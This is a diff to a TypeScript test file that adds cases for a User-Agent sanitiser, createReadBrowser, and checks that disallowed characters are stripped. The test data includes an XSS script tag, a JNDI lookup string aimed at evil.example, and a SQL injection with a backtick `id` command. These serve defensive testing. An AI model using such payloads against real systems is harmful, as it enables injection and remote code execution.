@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 
-import { clientAddressKey, parseClientAddress } from "./client-address.ts";
+import { clientAddressKey, createReadBrowser, parseClientAddress } from "./client-address.ts";
 
 describe("parseClientAddress", () => {
   it.each([
@@ -114,5 +114,31 @@ describe("clientAddressKey", () => {
 
   it("counts unknown addresses together", () => {
     expect(keyOf("nonsense")).toBe(keyOf("192.0.2.1, 192.0.2.2"));
+  });
+});
+
+function readUserAgent(userAgent: string): string | null {
+  const headers = new Headers({ "User-Agent": userAgent, "x-address": "192.0.2.1" });
+  return createReadBrowser("x-address", () => undefined)(headers).userAgent;
+}
+
+describe("createReadBrowser", () => {
+  it.each([
+    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
+  ])("keeps a browser's User-Agent: %s", (userAgent) => {
+    expect(readUserAgent(userAgent)).toBe(userAgent);
+  });
+
+  it.each([
+    ["<script>alert('x')</script>", "scriptalert(x)/script"],
+    ["${jndi:ldap://evil.example/a}", "jndi:ldap://evil.example/a"],
+    ["' OR 1=1 -- \\%00`id`", " OR 11 -- 00id"],
+    ["\u00e9\u00ffBrowser/1.0", "Browser/1.0"],
+    ["<>{}", null],
+    ["a".repeat(5000), "a".repeat(256)],
+    ["<".repeat(5000) + "b", "b"],
+  ])("drops from a User-Agent what browsers don't send: %s", (userAgent, expected) => {
+    expect(readUserAgent(userAgent)).toBe(expected);
   });
 });
